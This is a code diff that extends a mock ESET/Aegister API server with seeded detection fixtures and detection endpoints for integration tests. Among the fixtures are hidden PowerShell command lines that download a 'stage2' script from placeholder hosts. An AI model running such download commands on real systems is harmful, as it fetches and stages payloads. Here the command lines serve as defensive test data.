@@ -10,6 +10,8 @@
  * ESET
  *   POST /eset/oauth/token                      form-encoded password grant → bearer token
  *   /eset/v2/incidents…                         incidents and comments, in memory
+ *   /eset/v2/detections…                        detections (Get, List, Resolve, batchGet), linked to
+ *                                               the incidents by their `detectionUuids`
  *   behaviour switches (see `eset`):            token lifetime, 202 + response-id, 429 bursts,
  *                                               scripted statuses, a requests-per-second limit
  * Aegister
@@ -27,26 +29,270 @@ const AEGISTER_TOKEN = 'aegister-test-token-Q7x';
 /** @typedef {{ method: string, path: string, rawPath: string, query: Record<string,string>, headers: import('node:http').IncomingHttpHeaders, rawBody: string, body: any, at: number }} RecordedRequest */
 /** @typedef {{ status: number, headers?: Record<string,string>, body?: any }} ScriptedResponse */
 
-function seedIncidents(count = 5) {
+/**
+ * @param {number} count
+ * @param {any[]} detections  linked to the incidents through their `incidentNumber`
+ */
+function seedIncidents(count = 5, detections = []) {
 	const statuses = ['INCIDENT_STATUS_OPEN', 'INCIDENT_STATUS_IN_PROGRESS', 'INCIDENT_STATUS_OPEN'];
 	const incidents = [];
 	for (let i = 1; i <= count; i++) {
+		const detectionUuids = detections.filter((d) => d.incidentNumber === i).map((d) => d.detection.uuid);
 		incidents.push({
 			uuid: `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`,
 			displayName: i % 2 ? `Suspicious PowerShell on host-${i}` : `FP: scanner noise on host-${i}`,
 			description: `Seeded incident ${i}`,
 			severity: i % 3 ? 'INCIDENT_SEVERITY_LEVEL_MEDIUM' : 'INCIDENT_SEVERITY_LEVEL_HIGH',
 			status: statuses[i % statuses.length],
-			tags: i % 2 ? ['edr'] : ['false-positive-candidate'],
+			// incident 3 (open, high) is linked to Aegister incident 101 (examples/eset-to-aegister-nis2.json)
+			tags: i === 3 ? ['edr', 'aegister:101'] : i % 2 ? ['edr'] : ['false-positive-candidate'],
 			assigneeUuid: '',
 			createTime: `2026-11-0${1 + (i % 9)}T10:00:00Z`,
 			updateTime: `2026-11-0${1 + (i % 9)}T11:00:00Z`,
 			metrics: { deviceCount: 1, executableCount: i, processCount: 2 * i },
 			resolveReason: 'INCIDENT_RESOLVE_REASON_UNSPECIFIED',
 			deviceUuids: [`device-${i}`],
+			// ESET's JSON encoder may leave an empty list out
+			...(detectionUuids.length ? { detectionUuids } : {}),
 		});
 	}
 	return incidents;
+}
+
+/** `00000000-0000-4000-9000-IIIIIINNNNNN`: detection N of incident I. */
+function detectionUuid(/** @type {number} */ incident, /** @type {number} */ n) {
+	return `00000000-0000-4000-9000-${String(incident).padStart(6, '0')}${String(n).padStart(6, '0')}`;
+}
+
+const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
+
+/**
+ * Detections in the shape of ESET's `incident_managementv2Detection`, each with the number of the
+ * seeded incident it belongs to. Incidents 1 and 3 carry evidence in every documented place an
+ * indicator can be (object hash and URL, file and e-mail hashes, e-mail URLs and sender addresses,
+ * network traffic), with duplicates across detections and look-alike indicators in free text
+ * (circumstances, command lines, notes) that must never be extracted; detection 3 of incident 1 has
+ * no indicator at all.
+ * @returns {Array<{ incidentNumber: number, detection: any }>}
+ */
+function seedDetections() {
+	const device = (/** @type {number} */ i) => ({ uuid: `device-${i}`, displayName: `host-${i}` });
+	return [
+		{
+			incidentNumber: 1,
+			detection: {
+				uuid: detectionUuid(1, 1),
+				displayName: 'PowerShell/TrojanDownloader.Agent.AXY trojan',
+				typeName: 'Trojan',
+				category: 'DETECTION_CATEGORY_ANTIVIRUS',
+				circumstances: `Event occurred on a newly created file by the application: ${POWERSHELL} (9C1E2B1A0F0E0D0C0B0A09080706050403020100), which also contacted 192.0.2.200 and http://free-text.example/not-an-indicator.`,
+				device: device(1),
+				userName: 'ACME\\anna',
+				objectName: 'C:\\Users\\anna\\AppData\\Local\\Temp\\invoice.exe',
+				objectTypeName: 'File',
+				// upper case, as in ESET's examples; the file's own hash below repeats it in lower case
+				objectHashSha1: '3395856CE81F2B7382DEE72602F798B642F14140',
+				objectSizeBytes: '73802',
+				objectUrl: 'https://downloads.malware-host.example/payload/invoice.exe',
+				file: {
+					path: 'C:\\Users\\anna\\AppData\\Local\\Temp\\invoice.exe',
+					hashSha1: '3395856ce81f2b7382dee72602f798b642f14140',
+					hashSha2256: '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f',
+					sizeBytes: '73802',
+					origin: 'OBJECT_ORIGIN_DEVICE',
+				},
+				process: {
+					uuid: '7a4c0d52-6a0e-4b7e-9a34-1d2c3b4a5f61',
+					path: POWERSHELL,
+					commandLine: 'powershell.exe -nop -w hidden -c "iwr https://cmdline.example/stage2.ps1 -OutFile $env:TEMP\\invoice.exe"',
+				},
+				networkTraffic: {
+					direction: 'NETWORK_TRAFFIC_DIRECTION_OUTBOUND',
+					localIpAddress: '10.20.30.41',
+					localMacAddress: '00:1a:2b:3c:4d:5e',
+					localPort: 49711,
+					protocolKeyword: 'TCP',
+					remoteIpAddress: '203.0.113.45',
+					remoteMacAddress: '00:00:5e:00:53:01',
+					remotePort: 443,
+				},
+				occurTime: '2026-11-02T09:58:00Z',
+				resolved: false,
+				severityLevel: 'SEVERITY_LEVEL_HIGH',
+				severityScore: 80,
+				responses: [
+					{ actionType: 'OBJECT_ACTION_TYPE_DELETE', displayName: 'Cleaned by deleting', protectionName: 'Real-time file system protection', deviceRestartRequired: false },
+				],
+			},
+		},
+		{
+			incidentNumber: 1,
+			detection: {
+				uuid: detectionUuid(1, 2),
+				displayName: 'Botnet.CnC.Generic',
+				typeName: 'Botnet communication',
+				category: 'DETECTION_CATEGORY_NETWORK_INTRUSION',
+				device: device(1),
+				userName: 'ACME\\anna',
+				objectName: 'http://203.0.113.45/gate.php',
+				objectTypeName: 'URL',
+				objectUrl: 'http://203.0.113.45/gate.php',
+				process: { uuid: '7a4c0d52-6a0e-4b7e-9a34-1d2c3b4a5f61', path: POWERSHELL },
+				networkTraffic: {
+					direction: 'NETWORK_TRAFFIC_DIRECTION_OUTBOUND',
+					localIpAddress: '10.20.30.41',
+					localPort: 49712,
+					protocolKeyword: 'TCP',
+					remoteIpAddress: '203.0.113.45',
+					remotePort: 80,
+				},
+				occurTime: '2026-11-02T09:58:30Z',
+				resolved: false,
+				severityLevel: 'SEVERITY_LEVEL_HIGH',
+				severityScore: 75,
+				responses: [{ actionType: 'OBJECT_ACTION_TYPE_TERMINATE', displayName: 'Connection terminated', protectionName: 'Network attack protection' }],
+			},
+		},
+		{
+			incidentNumber: 1,
+			detection: {
+				uuid: detectionUuid(1, 3),
+				displayName: 'Suspicious PowerShell command line [A0103]',
+				typeName: 'EDR rule',
+				category: 'DETECTION_CATEGORY_EDR_RULE',
+				edrRuleUuid: 'edr-rule-a0103',
+				circumstances: 'PowerShell ran an encoded command that downloads from 198.51.100.250 (see https://circumstances.example/x).',
+				note: 'Analyst: probably related to evil.example',
+				device: device(1),
+				userName: 'ACME\\anna',
+				objectName: POWERSHELL,
+				objectTypeName: 'Process',
+				process: { uuid: '7a4c0d52-6a0e-4b7e-9a34-1d2c3b4a5f61', path: POWERSHELL, commandLine: 'powershell.exe -enc SQBFAFgA http://192.0.2.10/x' },
+				triggeringEvent: { type: 'TRIGGERING_EVENT_TYPE_PROCESS_STARTED', data: { url: 'http://triggering-event.example/', ip: '192.0.2.11' } },
+				occurTime: '2026-11-02T09:57:00Z',
+				resolved: false,
+				severityLevel: 'SEVERITY_LEVEL_MEDIUM',
+				severityScore: 55,
+			},
+		},
+		{
+			incidentNumber: 2,
+			detection: {
+				uuid: detectionUuid(2, 1),
+				displayName: 'Eicar test file',
+				typeName: 'Test file',
+				category: 'DETECTION_CATEGORY_ANTIVIRUS',
+				device: device(2),
+				objectName: 'C:\\scanner\\eicar.com',
+				objectTypeName: 'File',
+				objectHashSha1: '3395856ce81f2b7382dee72602f798b642f14140',
+				occurTime: '2026-11-03T10:00:00Z',
+				resolved: true,
+				note: 'Vulnerability scanner',
+				severityLevel: 'SEVERITY_LEVEL_LOW',
+				severityScore: 20,
+			},
+		},
+		{
+			incidentNumber: 3,
+			detection: {
+				uuid: detectionUuid(3, 1),
+				displayName: 'HTML/Phishing.Agent.DLX trojan',
+				typeName: 'Phishing',
+				category: 'DETECTION_CATEGORY_ANTIVIRUS',
+				cloudOfficeTenantUuid: 'tenant-acme-m365',
+				device: device(3),
+				objectName: 'Invoice_2026-11.zip',
+				objectTypeName: 'Email attachment',
+				objectHashSha1: 'b7e23ec29af22b0b4e41da31e868d57226121c84',
+				email: {
+					uuid: 'mail-7f2c',
+					subject: 'Invoice overdue',
+					from: 'Billing <billing@invoice-portal.example>',
+					to: 'anna@acme.example',
+					senderIpAddress: '198.51.100.23',
+					containedUrls: ['https://login.invoice-portal.example/acme/signin'],
+					attachments: [
+						{
+							path: 'Invoice_2026-11.zip',
+							hashSha1: 'B7E23EC29AF22B0B4E41DA31E868D57226121C84',
+							containedFiles: [
+								{
+									path: 'Invoice_2026-11.html',
+									hashSha1: 'da39a3ee5e6b4b0d3255bfef95601890afd80709',
+									hashSha2256: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
+								},
+							],
+						},
+					],
+					bodyParts: [{ path: 'body.html', hashSha1: '2fd4e1c67a2d28fced849ee1bb76e7391b93eb12' }],
+					mtaSmtpDetails: { hello: 'mail.invoice-portal.example', sender: 'billing@invoice-portal.example', senderIpAddress: '198.51.100.23', recipients: ['anna@acme.example'] },
+					origin: 'OBJECT_ORIGIN_MS_OFFICE365',
+				},
+				occurTime: '2026-11-04T07:40:00Z',
+				resolved: false,
+				severityLevel: 'SEVERITY_LEVEL_HIGH',
+				severityScore: 85,
+				responses: [{ actionType: 'OBJECT_ACTION_TYPE_QUARANTINE', displayName: 'Email quarantined', protectionName: 'Mail protection' }],
+			},
+		},
+		{
+			incidentNumber: 3,
+			detection: {
+				uuid: detectionUuid(3, 2),
+				displayName: 'Phishing page blocked',
+				typeName: 'Phishing website',
+				category: 'DETECTION_CATEGORY_WEB_ACCESS',
+				device: device(3),
+				userName: 'ACME\\anna',
+				objectName: 'https://login.invoice-portal.example/acme/signin',
+				objectTypeName: 'URL',
+				objectUrl: 'https://login.invoice-portal.example/acme/signin',
+				networkTraffic: { direction: 'NETWORK_TRAFFIC_DIRECTION_OUTBOUND', localIpAddress: '10.20.30.43', remoteIpAddress: '2001:DB8:0:0:0:0:0:7', remotePort: 443, protocolKeyword: 'TCP' },
+				occurTime: '2026-11-04T07:42:00Z',
+				resolved: false,
+				severityLevel: 'SEVERITY_LEVEL_HIGH',
+				severityScore: 70,
+			},
+		},
+		{
+			incidentNumber: 4,
+			detection: {
+				uuid: detectionUuid(4, 1),
+				displayName: 'Port scanning attack',
+				typeName: 'TCP Port scanning attack',
+				category: 'DETECTION_CATEGORY_NETWORK_INTRUSION',
+				device: device(4),
+				networkTraffic: { direction: 'NETWORK_TRAFFIC_DIRECTION_INBOUND', localIpAddress: '10.20.30.44', remoteIpAddress: '10.20.30.250', protocolKeyword: 'TCP' },
+				occurTime: '2026-11-05T10:00:00Z',
+				resolved: false,
+				severityLevel: 'SEVERITY_LEVEL_LOW',
+				severityScore: 30,
+			},
+		},
+	];
+}
+
+/**
+ * `count` plain detections (one every minute from 2026-10-01T00:00:00Z), for paging and chunking.
+ * @param {number} count
+ * @param {number} [incidentNumber]  the seeded incident they belong to
+ */
+function generatedDetections(count, incidentNumber = 0) {
+	return Array.from({ length: count }, (_, index) => ({
+		incidentNumber,
+		detection: {
+			uuid: detectionUuid(900 + incidentNumber, index + 1),
+			displayName: `Generated detection ${index + 1}`,
+			typeName: 'Trojan',
+			device: { uuid: 'device-bulk', displayName: 'bulk-host' },
+			objectHashSha1: (index + 1).toString(16).padStart(40, '0'),
+			occurTime: new Date(Date.UTC(2026, 9, 1) + index * 60_000).toISOString().replace('.000Z', 'Z'),
+			resolved: false,
+			severityLevel: 'SEVERITY_LEVEL_MEDIUM',
+			severityScore: 50,
+		},
+	}));
 }
 
 function seedOrganizations(count = 3) {
@@ -71,6 +317,11 @@ function freshScripts() {
 
 let esetGeneration = 0;
 
+function seededIncidentsAndDetections() {
+	const detections = seedDetections();
+	return { incidents: seedIncidents(5, detections), detections: detections.map((d) => d.detection) };
+}
+
 /** @param {boolean} newApiUser */
 function freshEsetState(newApiUser = false) {
 	return {
@@ -92,7 +343,7 @@ function freshEsetState(newApiUser = false) {
 		/** how many 202 polls a slow response needs before it is ready */
 		pollsUntilReady: 1,
 		tooManyRequestsSent: 0,
-		incidents: seedIncidents(),
+		...seededIncidentsAndDetections(),
 		comments: /** @type {Map<string, any[]>} */ (new Map()),
 		/** minimum ms to answer an incident-management call */
 		latencyMs: 0,
@@ -201,8 +452,21 @@ class ApiDouble {
 
 	/** Replace ESET's incidents with `count` generated ones. @param {number} count */
 	seedEsetIncidents(count) {
-		this.eset.incidents = seedIncidents(count);
+		this.eset.incidents = seedIncidents(count, seedDetections());
 		return this.eset.incidents;
+	}
+
+	/**
+	 * Add `count` generated detections; with `incidentUuid`, they become detections of that incident
+	 * (appended to its `detectionUuids`). @param {number} count @param {string} [incidentUuid]
+	 */
+	seedEsetDetections(count, incidentUuid) {
+		const incident = incidentUuid === undefined ? undefined : this.eset.incidents.find((i) => i.uuid === incidentUuid);
+		if (incidentUuid !== undefined && !incident) throw new Error(`no seeded incident ${incidentUuid}`);
+		const generated = generatedDetections(count, incident ? this.eset.incidents.indexOf(incident) + 1 : 0).map((d) => d.detection);
+		this.eset.detections.push(...generated);
+		if (incident) /** @type {any} */ (incident).detectionUuids = [...(/** @type {any} */ (incident).detectionUuids ?? []), ...generated.map((d) => d.uuid)];
+		return generated;
 	}
 
 	/** Give Aegister organization 1 the incidents 1 … `count` (for bulk runs). @param {number} count */
@@ -401,7 +665,7 @@ class ApiDouble {
 			}
 			const pageSize = Math.min(Number(request.query.pageSize) || 50, 1000);
 			const start = Number(request.query.pageToken || 0);
-			const page = matching.slice(start, start + pageSize).map(({ deviceUuids, ...rest }) => rest);
+			const page = matching.slice(start, start + pageSize).map(({ deviceUuids, detectionUuids, ...rest }) => rest);
 			const next = start + pageSize < matching.length ? String(start + pageSize) : '';
 			return { status: 200, body: { incidents: page, nextPageToken: next } };
 		}
@@ -432,6 +696,7 @@ class ApiDouble {
 			}
 			return { status: 200, body: { incident } };
 		}
+		if (path.startsWith('/v2/detections')) return this.esetDetections(request, path);
 		match = path.match(/^\/v2\/incidents\/([^/]+)\/comments(?:\/([^/]+?))?(\/text:update)?$/);
 		if (match) {
 			const incident = find(match[1]);
@@ -463,6 +728,62 @@ class ApiDouble {
 				comments.splice(comments.indexOf(comment), 1);
 				return { status: 200, body: {} };
 			}
+		}
+		return { status: 404, body: { code: 5, message: 'no such ESET route in the API double' } };
+	}
+
+	/**
+	 * The detection endpoints, as incident-management.json documents them:
+	 * - `GET /v2/detections`: `startTime` (inclusive) and `endTime` (exclusive) on `occurTime`, RFC 3339
+	 *   in UTC or with an offset; `cloudOfficeTenantUuid` (empty: any); `pageSize` default 50, above
+	 *   1000 coerced to 1000; `pageToken`. An empty page leaves `detections` out (proto3 JSON).
+	 * - `POST /v2/detections:batchGet`: atomic (AIP-231): one unknown UUID fails the whole batch with
+	 *   404; more than 1000 UUIDs is 400 OUT_OF_RANGE; more than the recommended 100 is answered with
+	 *   500 INTERNAL here (ESET documents that it "may" be).
+	 * - `POST /v2/detections/{detectionUuid}:resolve` with `{note?}` → `{}`.
+	 * @param {RecordedRequest} request @param {string} path
+	 * @returns {ScriptedResponse}
+	 */
+	esetDetections(request, path) {
+		const { detections } = this.eset;
+		const invalid = (/** @type {string} */ message) => ({ status: 400, body: { code: 3, message } });
+		if (request.method === 'GET' && path === '/v2/detections') {
+			const { startTime, endTime, cloudOfficeTenantUuid: tenant, pageToken } = request.query;
+			const rfc3339 = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}(:\d{2}(\.\d+)?)?(Z|[+-]\d{2}:\d{2})$/;
+			for (const [name, value] of Object.entries({ startTime, endTime })) {
+				if (value !== undefined && !rfc3339.test(value)) return invalid(`invalid ${name}: ${value}`);
+			}
+			const matching = detections.filter(
+				(d) =>
+					(startTime === undefined || Date.parse(d.occurTime) >= Date.parse(startTime)) &&
+					(endTime === undefined || Date.parse(d.occurTime) < Date.parse(endTime)) &&
+					(!tenant || d.cloudOfficeTenantUuid === tenant),
+			);
+			const pageSize = Math.min(Number(request.query.pageSize) || 50, 1000);
+			const start = Number(pageToken || 0);
+			const page = matching.slice(start, start + pageSize);
+			const next = start + pageSize < matching.length ? String(start + pageSize) : '';
+			return { status: 200, body: { ...(page.length ? { detections: page } : {}), nextPageToken: next } };
+		}
+		if (request.method === 'POST' && path === '/v2/detections:batchGet') {
+			const uuids = request.body?.detectionUuids;
+			if (!Array.isArray(uuids) || !uuids.every((u) => typeof u === 'string')) return invalid('detectionUuids must be a list of strings');
+			if (uuids.length > 1000) return { status: 400, body: { code: 11, message: `batch of ${uuids.length} detections exceeds the limit of 1000` } };
+			if (uuids.length > 100) return { status: 500, body: { code: 13, message: 'internal error: batch too large' } };
+			const found = uuids.map((uuid) => detections.find((d) => d.uuid === uuid));
+			const missing = uuids.filter((_, index) => !found[index]);
+			if (missing.length) return { status: 404, body: { code: 5, message: `detection not found: ${missing[0]}` } };
+			return { status: 200, body: found.length ? { detections: found } : {} };
+		}
+		const match = path.match(/^\/v2\/detections\/([^/:]+)(:resolve)?$/);
+		const detection = match && detections.find((d) => d.uuid === decodeURIComponent(match[1]));
+		if (match && !detection) return { status: 404, body: { code: 5, message: 'detection not found' } };
+		if (match && !match[2] && request.method === 'GET') return { status: 200, body: { detection } };
+		if (match && match[2] && request.method === 'POST') {
+			if (request.body === undefined || typeof request.body !== 'object') return invalid('the body must be a JSON object');
+			detection.resolved = true;
+			if (typeof request.body.note === 'string') detection.note = request.body.note;
+			return { status: 200, body: {} };
 		}
 		return { status: 404, body: { code: 5, message: 'no such ESET route in the API double' } };
 	}
